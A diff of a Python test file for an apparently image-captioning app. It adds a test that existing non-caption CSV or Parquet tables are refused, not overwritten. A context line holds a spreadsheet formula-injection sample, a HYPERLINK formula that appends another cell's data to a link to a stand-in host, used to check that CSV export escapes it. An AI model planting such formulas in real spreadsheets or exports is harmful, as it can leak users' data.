@@ -576,3 +576,18 @@ def test_the_apps_csv_download_uses_the_same_rule():
     table = pd.DataFrame({"image": ['=HYPERLINK("https://x.example/"&B2, "see")', "ok.png"], "score": [-1.5, 2.0]})
     rows = list(csv.reader(io.StringIO(views.csv_bytes(table).decode())))
     assert rows[1] == ['\'=HYPERLINK("https://x.example/"&B2, "see")', "-1.5"] and rows[2] == ["ok.png", "2.0"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_an_existing_table_without_rows_that_is_not_ours_is_refused_not_overwritten(tmp_path, suffix):
+    """A header-only CSV or a zero-row Parquet of another schema is someone's data: refused, left as it was."""
+    out = tmp_path / f"theirs{suffix}"
+    if suffix == ".csv":
+        out.write_text("important,data\n")
+    else:
+        pq.write_table(pa.table({"foo": pa.array([], pa.string())}), out)
+    before = out.read_bytes()
+    with pytest.raises(outputs.OutputError, match="is not a table of captions"):
+        with OutputFile(str(out)):
+            pass
+    assert out.read_bytes() == before
